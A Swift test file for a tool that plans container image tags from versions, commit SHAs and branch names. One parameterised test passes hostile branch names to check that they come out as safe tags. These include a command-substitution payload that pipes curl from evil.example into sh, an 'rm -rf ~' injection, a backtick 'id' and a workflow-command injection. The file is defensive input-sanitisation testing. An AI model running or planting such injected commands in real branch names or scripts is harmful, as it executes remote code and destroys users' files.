import ActionsCore
import Testing
import Versioning

@testable import Stages

@Suite struct TagRulesTests {
  let sha = "7d2a1b4c9e0f1234567890abcdef123456789012"

  func plan(_ env: String, _ version: String?, kinds: [TagKind]? = nil, configure: (inout TagRequest) -> Void = { _ in }) throws -> [String] {
    var r = TagRequest(
      environment: env, version: try version.map { try SemVer(parsing: $0) }, sha: sha, branch: "feature/login",
      kinds: kinds ?? EnvironmentClass(env).defaultKinds)
    configure(&r)
    return try TagRules.plan(r).map(\.tag)
  }

  /// `Character.isHexDigit` is true for fullwidth digits and letters: a SHA of them would make
  /// a tag no registry takes. Only ASCII hex is a SHA.
  @Test func aFullwidthSHAIsRefusedNamingSha() {
    let fullwidth = "\u{FF17}\u{FF44}\u{FF12}\u{FF41}\u{FF11}\u{FF42}\u{FF14}"
    #expect(Character("\u{FF41}").isHexDigit)
    do {
      _ = try plan("dev", nil, kinds: [.sha]) { $0.sha = fullwidth }
      Issue.record("a fullwidth SHA was taken")
    } catch { #expect((error as? InputError)?.input == "sha") }
  }

  /// Before, run by hand without GITHUB_SHA: "… needs a commit SHA of at least 7 hex digits
  /// (default GITHUB_SHA), got ''".
  @Test func aMissingSHASaysWhatToSet() {
    #expect(throws: InputError("sha", "the 'dev' tag needs a commit SHA and none is given: set `sha` (--sha), or GITHUB_SHA as a runner does")) {
      _ = try plan("dev", nil, kinds: [.dev]) { $0.sha = "" }
    }
  }

  /// An invalid tag made by the prefix or the suffix names that input, not version or sha.
  @Test func affixErrorsNameTheAffix() throws {
    func culprit(_ configure: (inout TagRequest) -> Void, kinds: [TagKind]? = nil) -> String? {
      do {
        _ = try plan("production", "1.2.3", kinds: kinds, configure: configure)
        return nil
      } catch { return (error as? InputError)?.input }
    }
    #expect(culprit { $0.prefix = "bad prefix/" } == "tag-prefix")
    #expect(culprit { $0.prefix = "-" } == "tag-prefix")
    #expect(culprit { $0.suffix = "/x" } == "tag-suffix")
    #expect(culprit { $0.suffix = String(repeating: "s", count: 130) } == "tag-suffix")
    #expect(culprit({ $0.prefix = "p:" }, kinds: [.sha]) == "tag-prefix")
    #expect(culprit({ $0.suffix = " " }, kinds: [.sha]) == "tag-suffix")
  }

  @Test func productionStableRelease() throws {
    #expect(try plan("production", "1.2.3") == ["1.2.3", "1.2", "1", "latest"])
  }

  @Test func productionPrereleaseGetsOnlyItsVersion() throws {
    #expect(try plan("production", "1.3.0-rc.1") == ["1.3.0-rc.1"])
  }

  @Test func zeroMajorHasNoMajorTag() throws {
    #expect(try plan("prod", "0.1.5") == ["0.1.5", "0.1", "latest"])
  }

  @Test func devBuildsSnapshotsAsTheReferencePipelines() throws {
    #expect(try plan("dev", "1.2.0") == ["dev-7d2a1b4", "1.2.0-SNAPSHOT-7d2a1b4", "sha-7d2a1b4"])
  }

  @Test func devWithoutVersionSkipsNothingSilently() throws {
    #expect(throws: InputError.self) { try plan("dev", nil) }
    #expect(try plan("dev", nil, kinds: [.dev, .sha]) == ["dev-7d2a1b4", "sha-7d2a1b4"])
  }

  @Test func stagingSnapshots() throws {
    #expect(try plan("staging", "1.2.0-beta.1") == ["1.2.0-SNAPSHOT-7d2a1b4", "sha-7d2a1b4"])
  }

  @Test func styles() throws {
    #expect(try plan("production", "1.2.3", kinds: [.version]) { $0.style = .v } == ["v1.2.3"])
    #expect(try plan("production", "1.2.3", kinds: [.version]) { $0.style = .both } == ["1.2.3", "v1.2.3"])
    // The style is the version's, minor and major included (they were 1.2 and 1 beside v1.2.3).
    #expect(try plan("production", "1.2.3", kinds: [.version, .minor, .major]) { $0.style = .v } == ["v1.2.3", "v1.2", "v1"])
    #expect(try plan("production", "1.2.3", kinds: [.version, .minor, .major]) { $0.style = .both } == ["1.2.3", "v1.2.3", "1.2", "v1.2", "1", "v1"])
  }

  @Test func latestInput() throws {
    #expect(try plan("staging", "1.2.3", kinds: [.version]) { $0.latest = "true" } == ["1.2.3", "latest"])
    #expect(try plan("production", "1.2.3") { $0.latest = "false" } == ["1.2.3", "1.2", "1"])
    #expect(throws: InputError.self) { try plan("production", "1.2.3-rc.1") { $0.latest = "true" } }
  }

  @Test func prefixAndSuffixSpareLatestAndEnv() throws {
    let tags = try plan("production", "1.2.3", kinds: [.version, .latest, .env]) {
      $0.prefix = "app-"
      $0.suffix = "-alpine"
    }
    #expect(tags == ["app-1.2.3-alpine", "production", "latest"])
  }

  @Test func buildMetadataBecomesUnderscore() throws {
    #expect(try plan("production", "1.2.3+build.7", kinds: [.version]) == ["1.2.3_build.7"])
  }

  @Test func templatesRenderAndSanitise() throws {
    let tags = try plan("dev", nil, kinds: [.dev]) { $0.extraTemplates = ["{{branch}}-{{sha7}}", "pr-{{env}}"] }
    #expect(tags == ["dev-7d2a1b4", "feature-login-7d2a1b4", "pr-dev"])
  }

  @Test func badTemplatesAreInputErrors() {
    #expect(throws: InputError.self) { try plan("dev", nil, kinds: [.dev]) { $0.extraTemplates = ["{{nope}}"] } }
    #expect(throws: InputError.self) { try plan("dev", nil, kinds: [.dev]) { $0.extraTemplates = ["{{version}}"] } }
    #expect(throws: InputError.self) { try plan("dev", nil, kinds: [.dev]) { $0.extraTemplates = ["{{sha"] } }
  }

  @Test func shortOrNonHexShaIsRefused() {
    #expect(throws: InputError.self) { try plan("dev", nil, kinds: [.dev]) { $0.sha = "abc" } }
    #expect(throws: InputError.self) { try plan("dev", nil, kinds: [.sha]) { $0.sha = "zzzzzzzz" } }
  }

  @Test func invalidPrefixCannotMakeATag() {
    #expect(throws: InputError.self) { try plan("production", "1.2.3", kinds: [.version]) { $0.prefix = "-" } }
  }

  @Test(arguments: [
    ("latest", true), ("v1.2.3", true), ("_x", true), ("-x", false), (".x", false), ("a/b", false), ("a:b", false),
    ("", false), (String(repeating: "a", count: 128), true), (String(repeating: "a", count: 129), false),
  ])
  func tagGrammar(_ tag: String, _ valid: Bool) {
    #expect(TagRules.isValidTag(tag) == valid)
  }

  @Test(arguments: [("feature/login", "feature-login"), ("--x", "x"), ("Ünï", "n-"), ("...", "")])
  func sanitising(_ text: String, _ expected: String) {
    #expect(TagRules.sanitize(text) == expected)
  }
}

/// Branch names come from whoever opens a pull request (`ref: ${{ github.head_ref }}`, a
/// pushed branch): the tags built from them are OCI tags of at most 128 characters with room
/// for tag-prefix and tag-suffix, and no character a shell or a reference would read.
@Suite struct HostileBranchTagTests {
  func plan(branch: String, prefix: String = "", suffix: String = "", template: String = "{{branch}}") throws -> [String] {
    var r = TagRequest(environment: "dev", version: nil, sha: "7d2a1b4c9e0f1234567890abcdef123456789012", branch: branch, kinds: [.sha])
    r.prefix = prefix
    r.suffix = suffix
    r.extraTemplates = [template]
    return try TagRules.plan(r).map(\.tag)
  }

  @Test func aLongBranchLeavesRoomForTheAffixes() throws {
    let branch = "feature/" + String(repeating: "x", count: 250)
    let tags = try plan(branch: branch, prefix: "app-", suffix: "-alpine")
    #expect(tags.count == 2)
    let extra = try #require(tags.last)
    #expect(extra.count == 128 && extra.hasPrefix("app-feature-xxx") && extra.hasSuffix("x-alpine"), "\(extra)")
    #expect(TagRules.isValidTag(extra))
    #expect(try plan(branch: branch, template: "pr-{{branch}}-{{sha7}}").last?.count == 128)
  }

  @Test(arguments: [
    "$(curl${IFS}evil.example|sh)", "a;rm${IFS}-rf${IFS}~", "`id`", "x'\"\\", "::set-output name=x::1", "ré\u{301}lease/ｆｕｌｌ", "..--x", "a\u{2028}b\r\nc",
  ])
  func hostileBranchesBecomePlainTags(_ branch: String) throws {
    let tag = try #require(try plan(branch: "pr-" + branch, prefix: "p_").last)
    #expect(TagRules.isValidTag(tag), "\(tag)")
    #expect(tag.allSatisfy { $0.isASCII && ($0.isLetter || $0.isNumber || "._-".contains($0)) }, "\(tag)")
  }
}
